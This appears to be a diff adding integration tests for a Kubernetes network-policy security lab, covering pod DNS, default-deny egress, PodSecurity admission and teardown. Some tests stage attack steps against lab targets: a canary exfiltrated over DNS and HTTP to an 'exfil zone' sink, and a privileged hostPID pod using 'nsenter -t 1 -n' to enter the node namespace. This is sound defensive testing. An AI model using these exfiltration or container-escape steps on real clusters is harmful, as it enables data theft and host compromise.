@@ -1,0 +1,137 @@
+import { readFileSync, readdirSync } from 'node:fs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { PodHandle } from '../../core/domain/cluster.ts';
+import { pod } from '../../manifests/pod-builder.ts';
+import { SCENE } from '../../manifests/scene.ts';
+import { LAB_ADDRESSES } from './addressing.ts';
+import { LabCluster } from './lab-cluster.ts';
+import { labProfile } from './testing/lab-profile.ts';
+import { listNetns } from './topology.ts';
+
+/** Real namespaces, real nftables, real processes: needs root (CI runs as root). */
+const namespace = (name: string, labels: Record<string, string> = {}) => ({ apiVersion: 'v1', kind: 'Namespace', metadata: { name, labels } });
+
+describe('lab cluster (real kernel)', () => {
+  let lab: LabCluster;
+  let api: PodHandle;
+  let client: PodHandle;
+
+  beforeAll(async () => {
+    lab = await LabCluster.create(labProfile('lab:netpol'), { runId: 'it', onProgress: () => undefined });
+    await lab.apply([
+      namespace('bm-app'),
+      namespace('bm-rogue', { 'pod-security.kubernetes.io/enforce': 'baseline' }),
+      { apiVersion: 'v1', kind: 'Service', metadata: { name: 'api', namespace: 'bm-app' }, spec: { selector: { app: 'api' }, ports: [{ port: 8080 }] } },
+      { apiVersion: 'cilium.io/v2', kind: 'CiliumNetworkPolicy', metadata: { name: 'l7', namespace: 'bm-app' }, spec: {} },
+    ]);
+    const apiPod = await lab.createPod(
+      pod('api', 'bm-app').exposePort(8080).withCommand('python3', '/opt/breachmatrix/workload_server.py', '--name', 'api', '--http-port', '8080').build(),
+      { timeoutMs: 10_000 },
+    );
+    const clientPod = await lab.createPod(pod('client', 'bm-app').runAsUser(1000).build(), { timeoutMs: 10_000 });
+    if (apiPod.status !== 'running' || clientPod.status !== 'running') throw new Error('pods did not start');
+    api = apiPod.pod;
+    client = clientPod.pod;
+  });
+
+  afterAll(async () => {
+    await lab?.teardown();
+  });
+
+  it('places pods on worker nodes with pod-CIDR addresses and runs them as the pod user', async () => {
+    expect(api.node).not.toBe(client.node);
+    expect(api.ip).toMatch(/^10\.244\.[12]\.\d+$/);
+    const id = await client.exec(['id', '-u'], { timeoutMs: 5_000 });
+    expect(id.stdout.trim()).toBe('1000');
+    // No NET_ADMIN in the default set: changing a route is refused.
+    const route = await client.exec(['ip', 'route', 'add', '192.0.2.0/24', 'dev', 'eth0'], { timeoutMs: 5_000 });
+    expect(route.exitCode).not.toBe(0);
+  });
+
+  it('lets a pod reach another pod by service name, resolved by the lab kube-dns', async () => {
+    const dig = await client.exec(['dig', '+short', 'api.bm-app.svc.cluster.local'], { timeoutMs: 5_000 });
+    expect(dig.stdout.trim()).toBe(api.ip);
+    const curl = await client.exec(['curl', '-sS', '-m', '3', 'http://api:8080/hello'], { timeoutMs: 5_000 });
+    expect(curl.exitCode).toBe(0);
+    expect(curl.stdout).toContain('workload=api path=/hello');
+  });
+
+  it('forwards the exfil zone to the sink, which records the canary', async () => {
+    const canary = 'bm00112233445566ff';
+    const dig = await client.exec(['dig', '+short', `${canary}.${SCENE.exfilZone}`], { timeoutMs: 5_000 });
+    expect(dig.exitCode).toBe(0);
+    const records = await lab.sinkReceived(canary);
+    expect(records.map((record) => record.protocol)).toContain('dns');
+  });
+
+  it('records kinds it does not model instead of enforcing them', () => {
+    expect(lab.notModelled().map((object) => object.kind)).toEqual(['CiliumNetworkPolicy']);
+  });
+
+  it('drops egress under default deny (curl exit 28) and the nft counter names the rule', async () => {
+    const canary = 'bm0badc0ffee000001';
+    const before = await client.exec(['curl', '-sS', '-m', '3', `http://${LAB_ADDRESSES.sinkIp}:${SCENE.sink.httpPort}/${canary}`], { timeoutMs: 5_000 });
+    expect(before.exitCode).toBe(0);
+    await lab.apply([
+      { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'default-deny', namespace: 'bm-app' }, spec: { podSelector: {}, policyTypes: ['Ingress', 'Egress'] } },
+      {
+        apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'allow-dns', namespace: 'bm-app' },
+        spec: {
+          podSelector: {}, policyTypes: ['Egress'],
+          egress: [{ to: [{ namespaceSelector: {}, podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } } }], ports: [{ protocol: 'UDP', port: 53 }] }],
+        },
+      },
+    ]);
+    const from = new Date();
+    const blocked = await client.exec(['curl', '-sS', '--connect-timeout', '1', '-m', '2', `http://${LAB_ADDRESSES.sinkIp}:${SCENE.sink.httpPort}/x${canary}`], { timeoutMs: 5_000 });
+    expect(blocked.exitCode).toBe(28);
+    const dns = await client.exec(['dig', '+short', '+time=2', 'api.bm-app.svc.cluster.local'], { timeoutMs: 5_000 });
+    expect(dns.stdout.trim()).toBe(api.ip);
+    const evidence = await lab.collectEvidence({
+      window: { from, to: new Date() },
+      flow: { protocol: 'http', sourcePod: 'client', sourceNamespace: 'bm-app', destinationIp: '198.51.100.10', destinationPort: 8080 },
+    });
+    expect(evidence).toHaveLength(1);
+    expect(evidence[0]).toMatchObject({ layer: 'cni', source: 'nft-counter', verdict: 'denied', rule: 'bm-app/default-deny,bm-app/allow-dns' });
+    expect(evidence[0]?.raw).toContain('bm:deny ns=bm-app pod=client dir=egress');
+    // The same counter does not count twice.
+    const again = await lab.collectEvidence({ window: { from, to: new Date() }, flow: { protocol: 'http', sourcePod: 'client', sourceNamespace: 'bm-app' } });
+    expect(again).toEqual([]);
+  });
+
+  it('rejects a hostNetwork pod under PSA baseline with the API server message', async () => {
+    const created = await lab.createPod(pod('hostnet', 'bm-rogue').hostNetwork().build(), { timeoutMs: 5_000 });
+    expect(created).toEqual({
+      status: 'rejected',
+      layer: 'admission',
+      message: 'pods "hostnet" is forbidden: violates PodSecurity "baseline:latest": host namespaces (hostNetwork=true)',
+    });
+  });
+
+  it('keeps a privileged pod with hostPID inside the lab: nsenter -t 1 -n lands in the node namespace', async () => {
+    await lab.apply([namespace('bm-privileged')]);
+    const created = await lab.createPod(pod('escape', 'bm-privileged').privileged().hostPid().build(), { timeoutMs: 5_000 });
+    if (created.status !== 'running') throw new Error('privileged pod rejected');
+    const addresses = await created.pod.exec(['nsenter', '-t', '1', '-n', 'ip', '-4', '-o', 'addr', 'show', 'eth0'], { timeoutMs: 5_000 });
+    const node = (await lab.addresses()).nodes.find((candidate) => candidate.name === created.pod.node);
+    expect(addresses.stdout).toContain(`${node?.ip}/16`);
+    await created.pod[Symbol.asyncDispose]();
+  });
+
+  it('teardown leaves no namespace, /etc/netns dir or process behind', async () => {
+    const name = lab.name;
+    await lab.teardown();
+    await lab.teardown();
+    expect((await listNetns()).filter((ns) => ns.startsWith(name))).toEqual([]);
+    expect(readdirSync('/etc/netns', { withFileTypes: true }).filter((entry) => entry.name.startsWith(name))).toEqual([]);
+    const procs = readdirSync('/proc').filter((entry) => /^\d+$/.test(entry));
+    const holders = procs.filter((pid) => {
+      try {
+        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(name);
+      } catch {
+        return false;
+      }
+    });
+    expect(holders).toEqual([]);
+  });
+});
